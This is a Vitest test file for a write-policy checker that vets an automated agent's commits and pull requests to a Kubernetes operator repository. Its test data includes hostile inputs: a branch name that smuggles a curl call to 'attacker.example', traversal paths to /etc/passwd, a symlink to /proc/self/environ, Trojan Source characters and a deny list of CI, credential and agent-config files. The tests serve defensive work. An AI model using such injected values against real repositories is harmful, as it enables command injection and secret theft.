import { describe, expect, it } from 'vitest';
import { createWritePolicy } from './default-policy';
import { evaluateWritePlan } from './evaluate-write-plan';
import type { FileChange, PolicyRule, WritePlan } from './types';

const policy = createWritePolicy({ repos: ['k8snetworkplumbingwg/ptp-operator'], branchPrefix: 'ci-fix-' });
const repo = 'k8snetworkplumbingwg/ptp-operator';

function plan(files: FileChange[], extra: Partial<WritePlan> = {}): WritePlan {
  return { repo, branch: 'ci-fix-issue-7-123', message: 'Fix flaky offset check', files, ...extra };
}

function rules(p: WritePlan, pol = policy): PolicyRule[] {
  return evaluateWritePlan(p, pol).violations.map((v) => v.rule);
}

function pathRules(path: string, pol = policy): PolicyRule[] {
  return rules(plan([{ path, content: 'x\n' }]), pol);
}

describe('evaluateWritePlan', () => {
  it('allows an ordinary source change', () => {
    const decision = evaluateWritePlan(
      plan([
        { path: 'pkg/daemon/daemon.go', content: 'package daemon\n' },
        { path: 'test/conformance/ptp_test.go', content: 'package test\n' },
        { path: 'docs/README.md', content: '# docs\n' },
      ]),
      policy,
    );
    expect(decision).toEqual({ allowed: true, violations: [] });
  });

  describe('default deny list: every path family is refused', () => {
    const denied = [
      // CI and automation config
      '.github/workflows/ci.yml',
      '.github/dependabot.yml',
      // case and spelling variants (C2)
      '.GitHub/Workflows/x.yml',
      // CODEOWNERS anywhere
      'CODEOWNERS',
      'docs/CODEOWNERS',
      // top-level dot-directories and dotfiles
      '.husky/pre-commit',
      '.githooks/pre-push',
      '.claude/settings.json',
      '.gemini/settings.json',
      '.codex/config.toml',
      '.agents/x.md',
      '.vscode/settings.json',
      '.devcontainer/devcontainer.json',
      '.golangci.yml',
      // git metadata files
      '.gitmodules',
      'sub/.gitattributes',
      // package-manager config
      '.npmrc',
      'web/.npmrc',
      '.yarnrc.yml',
      'bunfig.toml',
      '.env',
      'config/.env.production',
      // agent instructions
      'AGENTS.md',
      'sub/CLAUDE.md',
      'GEMINI.md',
      '.mcp.json',
      // manifests and lockfiles
      'package.json',
      'web/package-lock.json',
      'pnpm-lock.yaml',
      'yarn.lock',
      'go.mod',
      'go.sum',
      'Cargo.toml',
      'requirements-dev.txt',
      'pyproject.toml',
      // build and action definitions
      'Dockerfile',
      'build/Dockerfile.ci',
      'Containerfile',
      'action.yml',
      'tools/action.yaml',
      'Makefile',
      'hack/Makefile',
      // vendored code
      'vendor/github.com/x/y.go',
      'web/node_modules/x/index.js',
    ];
    it.each(denied)('%s', (path) => {
      expect(pathRules(path)).toContain('path-denied');
    });
  });

  describe('hostile spellings are refused by shape and still hit the deny list (security.md C1-C5)', () => {
    it.each([
      ['./.github//workflows/x.yml', ['path-not-canonical', 'path-denied']],
      ['docs/../.github/workflows/x.yml', ['path-traversal', 'path-denied']],
      ['.github\\workflows\\x.yml', ['path-backslash', 'path-denied']],
      ['../../etc/passwd', ['path-traversal']],
      ['../.git/config', ['path-traversal', 'path-git-directory']],
      ['src/../../x', ['path-traversal']],
      ['/home/runner/.bashrc', ['path-absolute']],
      ['~/.ssh/config', ['path-absolute']],
      ['C:\\Windows\\x', ['path-absolute', 'path-backslash']],
      ['a.txt\u0000.github/workflows/x.yml', ['path-control-character']],
      ['.\u0261ithub/workflows/x.yml', ['path-non-ascii']],
      ['\uFF0Egithub/workflows/x.yml', ['path-non-ascii']],
      ['.git/config', ['path-git-directory']],
      ['pkg/.GIT/hooks/pre-commit', ['path-git-directory']],
      ['pkg/dir/', ['path-not-canonical']],
      ['pkg/file.', ['path-not-canonical']],
      ['', ['path-empty']],
      [`pkg/${'a'.repeat(256)}.go`, ['path-too-long']],
    ] as const)('%j', (path, expected) => {
      const got = pathRules(path);
      for (const rule of expected) expect(got).toContain(rule);
    });
  });

  it('honours an exclusive allow list', () => {
    const narrow = createWritePolicy({ ...policy, allowPaths: ['pkg/**', 'test/**'] });
    expect(pathRules('pkg/a.go', narrow)).toEqual([]);
    expect(pathRules('docs/a.md', narrow)).toEqual(['path-not-allowed']);
  });

  it('lets extra deny globs add to the defaults', () => {
    const extra = createWritePolicy({ ...policy, extraDenyPaths: ['api/**'] });
    expect(pathRules('api/v1/types.go', extra)).toEqual(['path-denied']);
    expect(pathRules('.github/x.yml', extra)).toContain('path-denied');
  });

  describe('file modes', () => {
    it('refuses symlinks and submodules whatever the policy says', () => {
      const lax = createWritePolicy({ ...policy, allowedModes: ['100644', '100755', '120000', '160000'] });
      expect(rules(plan([{ path: 'docs/env', content: '/proc/self/environ', mode: '120000' }]), lax)).toEqual(
        ['mode-symlink'],
      );
      expect(rules(plan([{ path: 'third/lib', content: 'x', mode: '160000' }]), lax)).toEqual([
        'mode-submodule',
      ]);
    });
    it('refuses executables unless allowed', () => {
      const file: FileChange = { path: 'hack/run.sh', content: '#!/bin/sh\n', mode: '100755' };
      expect(rules(plan([file]))).toEqual(['mode-not-allowed']);
      expect(
        rules(plan([file]), createWritePolicy({ ...policy, allowedModes: ['100644', '100755'] })),
      ).toEqual([]);
    });
    it('refuses tree entries as files', () => {
      expect(rules(plan([{ path: 'pkg/x', content: 'x', mode: '040000' }]))).toEqual(['mode-not-allowed']);
    });
  });

  describe('caps', () => {
    it('counts files', () => {
      const many = Array.from({ length: 51 }, (_, i) => ({ path: `pkg/f${i}.go`, content: 'x\n' }));
      expect(rules(plan(many))).toEqual(['too-many-files']);
    });
    it('caps one file, the total and the lines', () => {
      const small = createWritePolicy({ ...policy, maxFileBytes: 100, maxTotalBytes: 150, maxLines: 10 });
      expect(rules(plan([{ path: 'pkg/a.go', content: 'x'.repeat(101) }]), small)).toContain(
        'file-too-large',
      );
      expect(
        rules(
          plan([
            { path: 'pkg/a.go', content: 'x'.repeat(80) },
            { path: 'pkg/b.go', content: 'y'.repeat(80) },
          ]),
          small,
        ),
      ).toEqual(['total-too-large']);
      expect(rules(plan([{ path: 'pkg/a.go', content: 'l\n'.repeat(11) }]), small)).toEqual([
        'too-many-lines',
      ]);
    });
  });

  describe('content', () => {
    it('refuses binary content unless allowed', () => {
      const bin: FileChange = { path: 'pkg/blob.bin', content: new Uint8Array([0x89, 0x50, 0x00, 0x01]) };
      expect(rules(plan([bin]))).toEqual(['content-binary']);
      expect(rules(plan([bin]), createWritePolicy({ ...policy, allowBinary: true }))).toEqual([]);
      expect(rules(plan([{ path: 'pkg/bad.txt', content: new Uint8Array([0xff, 0xfe, 0x41]) }]))).toEqual([
        'content-binary',
      ]);
    });
    it('refuses bidi and tag characters (Trojan Source, C12)', () => {
      const trojan = '/* \u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */';
      expect(rules(plan([{ path: 'pkg/a.go', content: trojan }]))).toEqual(['content-hidden-characters']);
      expect(rules(plan([{ path: 'pkg/a.go', content: 'ok \u{E0041}\u{E0042}' }]))).toEqual([
        'content-hidden-characters',
      ]);
    });
    it('refuses content that carries a secret (F5)', () => {
      const token = `ghp_${'A1b2'.repeat(9)}`;
      expect(rules(plan([{ path: 'pkg/config.go', content: `const token = "${token}"\n` }]))).toEqual([
        'content-secret',
      ]);
    });
    it('refuses deletes unless allowed, and content-less writes', () => {
      expect(rules(plan([{ path: 'test/a_test.go', delete: true }]))).toEqual(['delete-not-allowed']);
      expect(
        rules(
          plan([{ path: 'test/a_test.go', delete: true }]),
          createWritePolicy({ ...policy, allowDeletes: true }),
        ),
      ).toEqual([]);
      expect(rules(plan([{ path: 'test/a_test.go' }]))).toEqual(['content-missing']);
    });
    it('refuses the same path twice, however spelled', () => {
      expect(
        rules(
          plan([
            { path: 'pkg/a.go', content: 'a' },
            { path: 'PKG/A.go', content: 'b' },
          ]),
        ),
      ).toEqual(['path-duplicate']);
    });
  });

  describe('repository, branch, message and pull request', () => {
    it('refuses repositories outside the allowlist (case-insensitive match)', () => {
      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { repo: 'attacker/repo' }))).toEqual([
        'repo-not-allowed',
      ]);
      expect(
        rules(plan([{ path: 'pkg/a.go', content: 'a' }], { repo: 'K8sNetworkPlumbingWG/PTP-Operator' })),
      ).toEqual([]);
      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { repo: 'not a repo' }))).toEqual([
        'repo-invalid',
      ]);
    });
    it('refuses an empty allowlist', () => {
      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }]), createWritePolicy())).toContain(
        'repo-not-allowed',
      );
    });
    it.each(['main', 'MASTER', 'release-4.18', 'release/4.18'])('refuses protected branch %s', (branch) => {
      const open = createWritePolicy({ repos: [repo] });
      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { branch }), open)).toEqual([
        'branch-protected',
      ]);
    });
    it.each([
      '-u',
      'a;id',
      'x@{0}',
      'foo..bar',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal shell payload, not a template
      'feature/$(curl${IFS}attacker.example)',
      'refs/heads/x',
      'a/.hidden',
      'x.lock',
      'HEAD',
    ])('refuses unsafe branch name %j', (branch) => {
      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { branch }))).toEqual(['branch-invalid']);
    });
    it('requires the configured branch prefix and a branch at all', () => {
      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { branch: 'my-fix' }))).toEqual([
        'branch-prefix',
      ]);
      expect(rules({ repo, message: 'm', files: [{ path: 'pkg/a.go', content: 'a' }] })).toEqual([
        'branch-missing',
      ]);
    });
    it('requires a commit message without closing keywords', () => {
      expect(rules(plan([{ path: 'pkg/a.go', content: 'a' }], { message: '  ' }))).toEqual([
        'message-missing',
      ]);
      expect(
        rules(plan([{ path: 'pkg/a.go', content: 'a' }], { message: 'Fix offsets\n\nFixes #12' })),
      ).toEqual(['closing-keyword']);
    });
    it('forces draft pull requests and refuses closing keywords and bad titles', () => {
      const pr = { title: 'Fix offsets', body: 'Refs #12', base: 'main' };
      const base: WritePlan = { repo, branch: 'ci-fix-issue-12-1' };
      expect(rules({ ...base, pullRequest: pr })).toEqual([]);
      expect(rules({ ...base, pullRequest: { ...pr, draft: false } })).toEqual(['pr-not-draft']);
      expect(
        rules(
          { ...base, pullRequest: { ...pr, draft: false } },
          createWritePolicy({ ...policy, allowReadyPullRequests: true }),
        ),
      ).toEqual([]);
      for (const body of ['Fixes #12', 'closes org/repo#3', 'Resolved: https://github.com/o/r/issues/4']) {
        expect(rules({ ...base, pullRequest: { ...pr, body } })).toEqual(['closing-keyword']);
      }
      expect(
        rules(
          { ...base, pullRequest: { ...pr, body: 'Fixes #12' } },
          createWritePolicy({ ...policy, allowClosingKeywords: true }),
        ),
      ).toEqual([]);
      expect(rules({ ...base, pullRequest: { ...pr, title: 'x'.repeat(257) } })).toEqual([
        'pr-title-invalid',
      ]);
      expect(rules({ ...base, pullRequest: { ...pr, title: 'two\nlines' } })).toEqual(['pr-title-invalid']);
      expect(rules({ ...base, pullRequest: { ...pr, body: 'b'.repeat(60_001) } })).toEqual([
        'pr-body-too-long',
      ]);
      expect(rules({ ...base, pullRequest: { ...pr, base: '-x' } })).toEqual(['branch-invalid']);
    });
  });

  it('reports every violation at once, each naming the path and rule', () => {
    const decision = evaluateWritePlan(
      plan(
        [
          { path: '.github/workflows/ci.yml', content: 'on: push\n' },
          { path: 'docs/env', content: '/proc/self/environ', mode: '120000' },
        ],
        { repo: 'attacker/repo', branch: 'main' },
      ),
      policy,
    );
    expect(decision.allowed).toBe(false);
    expect(decision.violations).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ path: null, rule: 'repo-not-allowed' }),
        expect.objectContaining({ path: null, rule: 'branch-protected' }),
        expect.objectContaining({ path: '.github/workflows/ci.yml', rule: 'path-denied' }),
        expect.objectContaining({ path: 'docs/env', rule: 'mode-symlink' }),
      ]),
    );
    for (const v of decision.violations) expect(v.message.length).toBeGreaterThan(10);
  });
});
